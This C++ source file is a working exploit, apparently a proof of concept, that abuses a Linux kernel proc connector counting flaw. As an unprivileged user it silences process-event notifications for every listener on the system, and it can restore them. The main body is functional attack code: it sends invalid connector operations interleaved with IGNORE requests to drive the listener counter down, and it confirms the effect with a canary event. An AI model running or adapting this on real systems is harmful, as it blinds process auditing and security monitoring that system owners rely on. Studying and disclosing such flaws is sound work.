// Makes the kernel's proc connector fall silent for everybody, as any user of the initial namespaces can since 6.6, and
// makes it speak again.
//
//   silencer silence DEPTH   drives the listener counter down until no event is heard, then DEPTH further
//   silencer restore COUNT   raises it until events are heard, then COUNT further
//   silencer hears           exit code 0 if events are heard, 1 if not
//
// Whoever starts it, it does all this as nobody, without a capability. `silence` prints `silent after=N`: the counter
// stood at N before, so `restore N` puts back what was there.
//
// How: the kernel counts a listener when a socket's operation changes to LISTEN, and discounts it when the operation
// changes to IGNORE. A request with an operation that does not exist is refused, yet remembered as the socket's
// operation: after each of them the next IGNORE (or LISTEN) counts again.
#include <grp.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

constexpr std::uint32_t kNoOperation = 7;
constexpr int kCounterMax = 1'000'000;

[[noreturn]] void die(const char* what) {
  std::perror(what);
  std::exit(2);
}

void become_nobody() {
  constexpr unsigned kNobody = 65534;
  if (geteuid() != 0) return;
  if (setgroups(0, nullptr) != 0 || setresgid(kNobody, kNobody, kNobody) != 0 ||
      setresuid(kNobody, kNobody, kNobody) != 0) {
    die("become nobody");
  }
}

int open_socket(unsigned groups) {
  const int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
  sockaddr_nl address{};
  address.nl_family = AF_NETLINK;
  address.nl_groups = groups;
  if (fd < 0 || bind(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) die("connector");
  return fd;
}

void request(int fd, std::uint32_t operation) {
  char data[sizeof(nlmsghdr) + sizeof(cn_msg) + sizeof operation] = {};
  nlmsghdr header{};
  header.nlmsg_len = sizeof data;
  header.nlmsg_type = NLMSG_DONE;
  cn_msg message{};
  message.id = {CN_IDX_PROC, CN_VAL_PROC};
  message.len = sizeof operation;
  std::memcpy(data, &header, sizeof header);
  std::memcpy(data + sizeof header, &message, sizeof message);
  std::memcpy(data + sizeof header + sizeof message, &operation, sizeof operation);
  sockaddr_nl kernel{};
  kernel.nl_family = AF_NETLINK;
  if (sendto(fd, data, sizeof data, 0, reinterpret_cast<const sockaddr*>(&kernel), sizeof kernel) < 0) die("send");
}

void count_down(int fd) {
  request(fd, kNoOperation);
  request(fd, PROC_CN_MCAST_IGNORE);
}

void count_up(int fd) {
  request(fd, kNoOperation);
  request(fd, PROC_CN_MCAST_LISTEN);
}

// An event of our own, which the kernel queues before the call that caused it returns.
bool hears(int fd) {
  char data[512];
  while (recv(fd, data, sizeof data, MSG_DONTWAIT) >= 0) {
  }
  prctl(PR_SET_NAME, "canary");
  while (recv(fd, data, sizeof data, MSG_DONTWAIT) >= 0) {
    std::uint32_t what = 0;
    std::int32_t pid = 0;
    std::memcpy(&what, data + 36, sizeof what);
    std::memcpy(&pid, data + 52, sizeof pid);
    if (what == 0x200 && pid == getpid()) return true;  // PROC_EVENT_COMM
  }
  return false;
}

int silence(int ear, int mouth, int depth) {
  int taken = 0;
  while (hears(ear)) {
    if (++taken > kCounterMax) return 1;
    count_down(mouth);
  }
  for (int i = 0; i < depth; ++i) count_down(mouth);
  std::printf("silent after=%d\n", taken);
  return 0;
}

int restore(int ear, int mouth, int count) {
  int given = 0;
  while (!hears(ear)) {
    if (++given > kCounterMax) return 1;
    count_up(mouth);
  }
  for (int i = 0; i < count; ++i) count_up(mouth);
  std::printf("heard after=%d\n", given);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  become_nobody();
  // Only being in the multicast group is needed to hear; the ear never asks, so that it does not count.
  const int ear = open_socket(CN_IDX_PROC);
  if (argc == 2 && std::strcmp(argv[1], "hears") == 0) return hears(ear) ? 0 : 1;
  const int mouth = open_socket(0);
  if (argc == 3 && std::strcmp(argv[1], "silence") == 0) return silence(ear, mouth, std::atoi(argv[2]));
  if (argc == 3 && std::strcmp(argv[1], "restore") == 0) return restore(ear, mouth, std::atoi(argv[2]));
  std::fprintf(stderr, "usage: silencer silence DEPTH | restore COUNT | hears\n");
  return 2;
}
